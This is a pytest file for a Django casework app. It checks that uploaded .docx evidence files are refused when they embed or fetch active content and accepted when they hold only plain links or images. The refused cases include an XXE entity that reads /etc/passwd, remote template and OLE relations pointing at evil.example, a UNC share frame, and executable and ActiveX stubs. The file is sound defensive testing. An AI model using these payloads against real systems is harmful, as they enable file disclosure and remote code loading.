"""Office files that run, embed or fetch something are not taken as evidence."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from casework.documents.evidence import FileRefused, accept
from casework.models import Evidence
from tests import factories as f

WORD = "word/document.xml"
RELATIONS = "word/_rels/settings.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def office_file(**parts: bytes) -> SimpleUploadedFile:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in {"[Content_Types].xml": b"<Types/>", WORD: b"<x/>", **parts}.items():
            archive.writestr(name, body)
    return SimpleUploadedFile("说明.docx", out.getvalue())


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"'
        f' TargetMode="{mode}"/></Relationships>'
    ).encode()


@pytest.fixture
def person(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return f.user()


@pytest.mark.parametrize(
    "parts",
    [
        {
            WORD: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        },
        {RELATIONS: relation("attachedTemplate", "http://evil.example/x.dotm")},
        {RELATIONS: relation("oleObject", "http://evil.example/x.html!")},
        {RELATIONS: relation("frame", "\\\\evil.example\\share")},
        {"word/embeddings/oleObject1.bin": b"MZ"},
        {"word/activeX/activeX1.xml": b"<x/>"},
    ],
)
def test_what_runs_or_fetches_is_refused(person, tmp_path, parts):
    refused = accept(office_file(**parts), person)
    assert isinstance(refused, FileRefused)
    assert not Evidence.objects.exists()
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


@pytest.mark.parametrize(
    "parts",
    [
        {RELATIONS: relation("hyperlink", "https://www.example.org/")},
        {RELATIONS: relation("image", "media/image1.png", mode="Internal")},
        {"xl/_rels/a.rels": relation("externalLinkPath", "file:///other.xlsx")},
        {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"},
        {WORD: "<x>普通的说明 <!-- DOCTYPE --></x>".encode()},
    ],
)
def test_links_pictures_and_tables_are_taken(person, parts):
    assert isinstance(accept(office_file(**parts), person), Evidence)
